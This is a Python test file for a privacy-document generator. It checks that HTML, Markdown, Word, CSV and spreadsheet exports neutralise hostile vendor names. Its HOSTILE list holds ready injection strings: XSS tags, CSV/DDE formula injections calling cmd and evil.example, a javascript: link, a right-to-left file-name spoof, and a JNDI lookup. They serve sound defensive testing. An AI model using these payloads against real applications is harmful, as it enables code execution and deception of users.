"""The writers: nothing gets lost, and a hostile name is harmless text in every format."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from html.parser import HTMLParser
from typing import Any

import docx
import openpyxl
import pytest

from advisor.documents.collect import collect
from advisor.documents.drafting import draft
from advisor.documents.formats.csv import table_csv
from advisor.documents.formats.docx import word
from advisor.documents.formats.html import html
from advisor.documents.formats.markdown import markdown
from advisor.documents.formats.xlsx import xlsx
from advisor.documents.structure import (
    Document,
    Heading,
    Item,
    Items,
    Paragraph,
    Row,
    Span,
    Table,
    lines,
    plain,
)
from advisor.interview import Interview
from advisor.model import Answer, Locale
from tests.documents_base import DOCUMENTS, SMALLEST, collected, drafted, scenario

DAY = "2026-11-23"
HOSTILE = (
    "<script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "![x](http://evil.example/x.png) [click](javascript:alert(1))",
    "`code` *bold* _it_ | cell | # heading",
    "safe\u202egnp.exe\u2066 \u200bend",
    "line one\nline two\r\n# heading\t\x1b[31mred\x00\x07",
    "{seller.email} [[gap]] [?check] {{7*7}} {% raw %} ${jndi:ldap://x}",
)


def hostile(interview: Interview, name: str) -> Document:
    """A document of a case whose vendors and seller have hostile names, past every check of what is read."""
    vendors = [
        {"name": f"vendor {number}", "function": "hosting", "role": "processor", "country": "US", "mechanism": "scc"}
        for number, _ in enumerate(HOSTILE)
    ]
    details = {"name": HOSTILE[0], "email": HOSTILE[2], "address": HOSTILE[7], "phone": HOSTILE[8], "vat": HOSTILE[9]}
    case = collected(interview, {**scenario("f2"), "vendors": vendors}).case
    named = case.answers[("vendors", "")]
    names = dict(zip(map(str, named.values()), HOSTILE, strict=True))
    case = case.add(Answer(ask="vendors", value=named.value, how="file", names=names))
    return draft(collect(interview, case, details), name).document


class Reader(HTMLParser):
    """The tags, attributes and text of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.texts: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


TAGS = {"html", "head", "meta", "title", "style", "body", "header", "main", "h1", "h2", "h3", "p", "ul", "li", "div",
        "table", "caption", "thead", "tbody", "tr", "th", "td", "mark", "strong", "aside", "span"}  # fmt: skip
ATTRIBUTES = {"lang", "charset", "name", "content", "http-equiv", "class", "aria-label", "aria-hidden", "role",
              "tabindex", "scope"}  # fmt: skip
INVISIBLE = re.compile("[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("name", DOCUMENTS)
class TestHostileNames:
    def test_html(self, name: str, interview: Interview) -> None:
        page = html(hostile(interview, name))
        found = Reader(page)
        assert found.tags <= TAGS
        assert {attribute for _, attribute in found.attributes} <= ATTRIBUTES
        assert not INVISIBLE.search(page)
        assert "<script>alert(1)</script>" in "".join(found.texts)

    def test_markdown(self, name: str, interview: Interview) -> None:
        said = markdown(hostile(interview, name))
        assert "<" not in said and not INVISIBLE.search(said)
        assert not re.search(r"(?<!\\)\]\(", said)
        assert not re.search(r"(?<!\\)`", said)
        for line in said.splitlines():
            if line.startswith("#"):
                assert "heading" not in line
            if line.startswith("|"):
                cells = len(re.findall(r"(?<!\\)\|", line))
                assert cells >= 3 and line.endswith("|")

    def test_word(self, name: str, interview: Interview) -> None:
        data = word(hostile(interview, name), DAY)
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            body = archive.read("word/document.xml").decode("utf-8")
            assert not any("vbaProject" in entry for entry in archive.namelist())
        for active in ("w:instrText", "w:fldSimple", "w:hyperlink", "w:altChunk"):
            assert active not in body
        assert not INVISIBLE.search(body)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body


@pytest.mark.parametrize("name", ["record-of-processing", "vendor-register"])
class TestHostileTables:
    def test_csv(self, name: str, interview: Interview) -> None:
        for table in hostile(interview, name).tables():
            for semicolons in (False, True):
                said = table_csv(table, semicolons=semicolons)
                assert said.startswith("\ufeff") and said.endswith("\r\n") and not INVISIBLE.search(said)
                rows = list(csv.reader(io.StringIO(said[1:], newline=""), delimiter=";" if semicolons else ","))
                assert {len(row) for row in rows} == {len(table.header)}
                assert len(rows) == len(table.rows) + 1
                for row in rows:
                    for cell in row:
                        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))

    def test_xlsx(self, name: str, interview: Interview) -> None:
        document = hostile(interview, name)
        book = openpyxl.load_workbook(io.BytesIO(xlsx(document, DAY)))
        assert len(book.sheetnames) == len(document.tables())
        texts = []
        for sheet, table in zip(book.worksheets, document.tables(), strict=True):
            assert (sheet.max_row, sheet.max_column) == (len(table.rows) + 1, len(table.header))
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type == "s" and cell.hyperlink is None
                    texts.append(cell.value)
        assert any('=HYPERLINK("http://evil.example","click")' in value for value in texts)
        assert not any(INVISIBLE.search(value) for value in texts)
        with zipfile.ZipFile(io.BytesIO(xlsx(document, DAY))) as archive:
            sheets = [archive.read(entry).decode() for entry in archive.namelist() if "/worksheets/" in entry]
        assert not any(active in sheet for sheet in sheets for active in ("<f>", "<f ", "<hyperlink", "oleObject"))


@pytest.mark.parametrize("locale", Locale)
@pytest.mark.parametrize("name", DOCUMENTS)
def test_every_word_arrives_in_every_format(name: str, locale: Locale, interview: Interview) -> None:
    document = drafted(interview, scenario("f4"), name, locale).document
    page = "".join(Reader(html(document)).texts)
    marked = re.sub(r"\*\*|\\(?=\W)", "", markdown(document)).replace("&amp;", "&")
    file = docx.Document(io.BytesIO(word(document, DAY)))
    paragraphs = [paragraph.text for paragraph in file.paragraphs]
    paragraphs += [cell.text for table in file.tables for row in table.rows for cell in row.cells]
    written = "\n".join(paragraphs)
    for block in (*document.blocks, *document.annex):
        for line in lines(block):
            said = plain(line.words)
            assert said in page and said in written, said
            assert re.sub(r"\s+", " ", said).strip() in re.sub(r"\s+", " ", marked), said


@pytest.mark.parametrize("locale", Locale)
def test_the_registers_arrive_in_spreadsheets(locale: Locale, interview: Interview) -> None:
    for name in ("record-of-processing", "vendor-register"):
        document = drafted(interview, scenario("f2"), name, locale).document
        book = openpyxl.load_workbook(io.BytesIO(xlsx(document, DAY)))
        for sheet, table in zip(book.worksheets, document.tables(), strict=True):
            wanted = [[plain(cell) for cell in table.header]]
            wanted += [[plain(cell) for cell in row.cells] for row in table.rows]
            assert [[cell.value for cell in row] for row in sheet.iter_rows()] == wanted
            assert len(sheet.title) <= 31
            rows = list(csv.reader(io.StringIO(table_csv(table)[1:], newline="")))
            assert [[cell.removeprefix("'") for cell in row] for row in rows] == wanted


def test_the_same_case_makes_the_same_bytes(interview: Interview) -> None:
    first, second = (drafted(interview, scenario("f2"), "vendor-register").document for _ in range(2))
    assert word(first, DAY) == word(second, DAY)
    assert xlsx(first, DAY) == xlsx(second, DAY)
    with zipfile.ZipFile(io.BytesIO(xlsx(first, DAY))) as archive:
        core = archive.read("docProps/core.xml").decode()
        assert core.count(f"{DAY}T00:00:00Z") == 2
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def made(*blocks: Any) -> Document:
    return Document(id="x", locale=Locale.EN, title="T", public=True, register=True, blocks=blocks)


class TestShapes:
    def test_no_box_is_ticked_and_no_page_has_a_form(self, interview: Interview) -> None:
        answers = {**scenario("f2"), "data.marketing_channels": ["email", "sms", "messenger", "phone_live"]}
        document = drafted(interview, answers, "consent-texts").document
        boxes = [block for block in document.blocks if isinstance(block, Items) and block.boxes]
        assert len(boxes) >= 5
        page = html(document)
        assert "checked" not in page and "☑" not in page and "☒" not in page and "<input" not in page
        assert page.count("☐") == sum(len(block.items) for block in boxes)
        assert markdown(document).count("- ☐ ") == page.count("☐")

    def test_markdown_escapes_what_would_begin_a_block(self) -> None:
        document = made(
            Paragraph(words=(Span("- not a list"),)),
            Paragraph(words=(Span("1. not a list either"),)),
            Paragraph(words=(Span("# no heading"),)),
            Items(items=(Item(words=(Span("+ plain"),)),)),
            Paragraph(words=(Span(" spaced "), Span(" strong ", "strong"), Span("."))),
        )
        body = markdown(document).split("\n\n")[1:]
        assert body == ["\\- not a list", "1\\. not a list either", "\\# no heading", "- \\+ plain",
                        " spaced  **strong** .\n"]  # fmt: skip

    def test_a_quote_is_told_from_words_about_it(self) -> None:
        document = made(Paragraph(words=(Span("Good day"),), quote=True))
        assert "> Good day" in markdown(document)
        assert '<p class="quote">Good day</p>' in html(document)
        file = docx.Document(io.BytesIO(word(document, DAY)))
        assert [p.style.name for p in file.paragraphs if p.text == "Good day"] == ["Quote"]

    def test_gaps_stand_out_in_every_format(self) -> None:
        document = made(Heading(level=2, words=(Span("H"),)), Paragraph(words=(Span("[to fill in: x]", "gap"),)))
        assert '<mark class="gap">[to fill in: x]</mark>' in html(document)
        assert "**\\[to fill in: x\\]**" in markdown(document)
        file = docx.Document(io.BytesIO(word(document, DAY)))
        runs = [run for paragraph in file.paragraphs for run in paragraph.runs if "fill in" in run.text]
        assert [run.font.highlight_color is not None for run in runs] == [True]

    def test_sheets_have_names_that_a_spreadsheet_accepts(self) -> None:
        cell = ((Span("a"),),)
        tables = [
            Table(caption="A: very/long*name? of [something] that never ends", header=cell, rows=(Row(cells=cell),)),
            Table(caption="A: very/long*name? of [something] that never ends", header=cell, rows=(Row(cells=cell),)),
            Table(caption="'", header=cell, rows=(Row(cells=cell),)),
        ]
        book = openpyxl.load_workbook(io.BytesIO(xlsx(made(*tables), DAY)))
        assert len(set(book.sheetnames)) == 3
        assert not any(re.search(r"[\[\]:*?/\\']", title) or len(title) > 31 for title in book.sheetnames)

    def test_the_page_loads_and_runs_nothing(self, interview: Interview) -> None:
        page = html(drafted(interview, SMALLEST, "privacy-notice").document)
        assert "default-src 'none'" in page
        assert not re.search(r"(?i)<(script|link|iframe|img|form)|src=|href=|url\(|@import", page)

    def test_working_notes_are_apart(self, interview: Interview) -> None:
        document = drafted(interview, SMALLEST, "privacy-notice").document
        page = html(document)
        assert page.index("<aside") < page.index("Working notes: delete before publishing</h2>")
        assert markdown(document).count("\n---\n") == 1
